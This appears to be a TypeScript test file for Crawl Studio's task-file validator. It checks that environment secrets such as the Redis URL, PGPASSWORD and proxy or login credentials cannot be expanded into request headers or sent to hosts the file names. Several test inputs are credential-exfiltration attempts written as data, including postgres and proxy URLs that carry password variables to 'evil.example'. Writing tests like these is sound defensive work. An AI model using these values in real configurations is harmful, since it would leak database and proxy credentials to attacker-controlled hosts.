import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { formatDiagnostic } from '../../src/core/task/diagnostics';
// The front ends' parse: the task's ${VAR}s read from this process's environment (core's parseTask takes it as an argument).
import { parseTaskText as parseTask } from '../../src/workspace/taskFile';
import { expandValue } from '../../src/core/task/secrets';
import { storeSecretProblems } from '../../src/core/task/storeUrl';
import { RESERVED_VARIABLES, variableKind, variableProblem } from '../../src/core/task/variables';
import { expandHeaders } from '../../src/worker/requests';

// Which variables a task file may use, and where each may go (issue 35, item 1).

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? sources(p) : p.endsWith('.ts') ? [p] : [];
  });
}

function errors(text: string, env: Record<string, string> = {}): string[] {
  const saved = Object.fromEntries(Object.keys(env).map((k) => [k, process.env[k]]));
  Object.assign(process.env, env);
  try {
    return parseTask(text, 't.yaml')
      .diagnostics.filter((d) => d.severity === 'error')
      .map(formatDiagnostic);
  } finally {
    for (const [k, v] of Object.entries(saved))
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
  }
}

const base = `name: t\nstart: [http://shop.test/]\nrules: [{ name: page }]\n`;

describe('task-file variables: the allow-list and where each secret may go', () => {
  it("every CRAWL_STUDIO_* variable the code reads from its environment is reserved (never a task file's)", () => {
    const read = new Set<string>();
    for (const f of sources('src')) {
      const text = readFileSync(f, 'utf8');
      // `X_ENV = 'CRAWL_STUDIO_…'` constants, and `env.CRAWL_STUDIO_…` / `env['CRAWL_STUDIO_…']` reads.
      for (const m of text.matchAll(/_ENV = '(CRAWL_STUDIO_[A-Z0-9_]+)'|env(?:\.|\[')(CRAWL_STUDIO_[A-Z0-9_]+)/g))
        read.add(m[1] ?? m[2]!);
    }
    assert.ok(read.has('CRAWL_STUDIO_REDIS') && read.has('CRAWL_STUDIO_REDIS_PASSWORD'), [...read].join(', '));
    for (const name of read)
      assert.equal(variableKind(name), 'reserved', `${name} is read by Crawl Studio but a task file could use it`);
    for (const name of RESERVED_VARIABLES) assert.equal(variableKind(name), 'reserved');
  });

  it("the project's connection secrets are refused everywhere a task file can write a variable", () => {
    for (const name of [
      'CRAWL_STUDIO_REDIS',
      'CRAWL_STUDIO_REDIS_PASSWORD',
      'CRAWL_STUDIO_SENTINEL_PASSWORD',
      'CRAWL_STUDIO_REDIS_SOMETHING_NEW',
    ]) {
      for (const place of ['request', 'login', 'proxy', 'store'] as const)
        assert.match(variableProblem(name, place)!, /Crawl Studio's own settings/);
    }
    assert.match(variableProblem('PGPASSWORD', 'request')!, /goes only in store\.url/);
    assert.match(variableProblem('CRAWL_STUDIO_DB_PASSWORD', 'login')!, /goes only in store\.url/);
    assert.match(variableProblem('CRAWL_STUDIO_PROXY_PASSWORD', 'request')!, /goes only in proxy\.urls/);
    assert.match(variableProblem('HOME', 'request')!, /not expanded/);
    assert.equal(variableProblem('CRAWL_STUDIO_API_KEY', 'request'), null);
    assert.equal(variableProblem('PGPASSWORD', 'store'), null);
  });

  it('validate names the field, the line and the variable; the worker does not expand it either', () => {
    const all = errors(base + `request: { headers: { x-leak: '\${CRAWL_STUDIO_REDIS}' } }\n`, {
      CRAWL_STUDIO_REDIS: 'redis://:S3cr3t@h:1',
    });
    assert.equal(all.length, 1, all.join('\n'));
    assert.match(all[0]!, /^t\.yaml:4:\d+: error: request\.headers\.x-leak: \$\{CRAWL_STUDIO_REDIS\} is not expanded/);
    assert.ok(!all[0]!.includes('S3cr3t'));
    const env = { CRAWL_STUDIO_REDIS: 'redis://:S3cr3t@h:1', CRAWL_STUDIO_TOKEN: 'tok' };
    const h = expandHeaders({ 'x-leak': '${CRAWL_STUDIO_REDIS}', 'x-token': '${CRAWL_STUDIO_TOKEN}' }, env);
    assert.deepEqual(h.missing, ['CRAWL_STUDIO_REDIS']);
    assert.equal(h.headers['x-token'], 'tok');
    assert.ok(!JSON.stringify(h.headers).includes('S3cr3t'));
    assert.equal(
      expandValue('${PGPASSWORD}', { PGPASSWORD: 'x' }).value,
      '',
      'a store password never goes in a request or a login',
    );
  });

  it('a proxy password only in proxy.urls, login credentials only in the login', () => {
    const proxyInHeader = errors(
      base + `request: { headers: { authorization: 'Basic \${CRAWL_STUDIO_PROXY_PASSWORD}' } }\n`,
    );
    assert.match(
      proxyInHeader.join('\n'),
      /request\.headers\.authorization: \$\{CRAWL_STUDIO_PROXY_PASSWORD\} is a proxy variable/,
    );
    const login = `login:\n  url: http://shop.test/login\n  post: { fields: { user: '\${CRAWL_STUDIO_USER}', password: '\${CRAWL_STUDIO_PASSWORD}' } }\n`;
    const leak = errors(base + login + `request: { headers: { x-pw: '\${CRAWL_STUDIO_PASSWORD}' } }\n`, {
      CRAWL_STUDIO_USER: 'u',
      CRAWL_STUDIO_PASSWORD: 'p',
    });
    assert.equal(leak.length, 1, leak.join('\n'));
    assert.match(leak[0]!, /request\.headers\.x-pw: \$\{CRAWL_STUDIO_PASSWORD\} is a login credential/);
    assert.deepEqual(errors(base + login, { CRAWL_STUDIO_USER: 'u', CRAWL_STUDIO_PASSWORD: 'p' }), []);
  });

  it('a store password goes only to a store host the user chose', () => {
    const pg = (url: string, env: Record<string, string> = {}) => storeSecretProblems(url, env);
    assert.match(
      pg('postgres://victim:${PGPASSWORD}@evil.example:5432/db')[0]!,
      /\$\{PGPASSWORD\} would be sent to evil\.example, a host this file names/,
    );
    assert.match(pg('postgres://victim:${CRAWL_STUDIO_DB_PW}@evil.example/db')[0]!, /would be sent to evil\.example/);
    assert.match(pg('postgres://victim@evil.example/db?password=${PGPASSWORD}')[0]!, /would be sent/);
    assert.match(
      pg('postgres://victim@evil.example/db', { PGPASSWORD: 'x' })[0]!,
      /PostgreSQL driver would send it \$PGPASSWORD/,
    );
    assert.match(pg('postgres://u:${PGPASSWORD}@${CRAWL_STUDIO_X}.evil.example/db')[0]!, /a host this file builds/);
    assert.deepEqual(pg('postgres://victim@evil.example/db'), [], 'no password anywhere: nothing to leak');
    assert.deepEqual(pg('postgres://u:${PGPASSWORD}@${PGHOST}:5432/db'), []);
    assert.deepEqual(pg('postgres://u:${PGPASSWORD}@${CRAWL_STUDIO_DB_HOST}/db'), []);
    assert.deepEqual(pg('postgres://u:${PGPASSWORD}@127.0.0.1:5432/db'), []);
    assert.deepEqual(pg('postgres://u:${PGPASSWORD}@localhost/db'), []);
    assert.deepEqual(pg('postgres://u:${PGPASSWORD}@[::1]:5432/db'), []);
    assert.deepEqual(
      pg('postgres://u:${PGPASSWORD}@db:5432/crawls', { PGHOST: 'db' }),
      [],
      '$PGHOST confirms the host',
    );
    const located = errors(base + `store: { url: 'postgres://victim:\${PGPASSWORD}@evil.example:5432/db' }\n`, {
      PGPASSWORD: 'hunter2',
    });
    assert.equal(located.length, 1, located.join('\n'));
    assert.match(located[0]!, /^t\.yaml:4:\d+: error: store\.url: \$\{PGPASSWORD\} would be sent to evil\.example/);
    assert.ok(!located[0]!.includes('hunter2'));
  });
});

describe('task-file variables: a proxy password goes only to a proxy the user chose', () => {
  it('refuses credentials from variables sent to a proxy host only the file names', () => {
    const proxy = (u: string) =>
      errors(base + `proxy: { urls: ['${u}'] }\n`, {
        CRAWL_STUDIO_PROXY_USER: 'u',
        CRAWL_STUDIO_PROXY_PASSWORD: 'p',
        CRAWL_STUDIO_PROXY_HOST: 'px.internal',
        CRAWL_STUDIO_PROXY: 'http://u:p@px.internal:3128',
      });
    const evil = proxy('http://${CRAWL_STUDIO_PROXY_USER}:${CRAWL_STUDIO_PROXY_PASSWORD}@evil.example:3128');
    assert.equal(evil.length, 1, evil.join('\n'));
    assert.match(
      evil[0]!,
      /^t\.yaml:4:\d+: error: proxy\.urls\[0\]: \$\{CRAWL_STUDIO_PROXY_USER\}, \$\{CRAWL_STUDIO_PROXY_PASSWORD\} would be sent to evil\.example, a proxy host this file names/,
    );
    assert.deepEqual(
      proxy('http://${CRAWL_STUDIO_PROXY_USER}:${CRAWL_STUDIO_PROXY_PASSWORD}@${CRAWL_STUDIO_PROXY_HOST}:3128'),
      [],
    );
    assert.deepEqual(proxy('${CRAWL_STUDIO_PROXY}'), []);
    assert.deepEqual(proxy('http://${CRAWL_STUDIO_PROXY_USER}:${CRAWL_STUDIO_PROXY_PASSWORD}@127.0.0.1:3128'), []);
    assert.deepEqual(proxy('http://evil.example:3128'), [], "a proxy without credentials is the file's to name");
  });
});
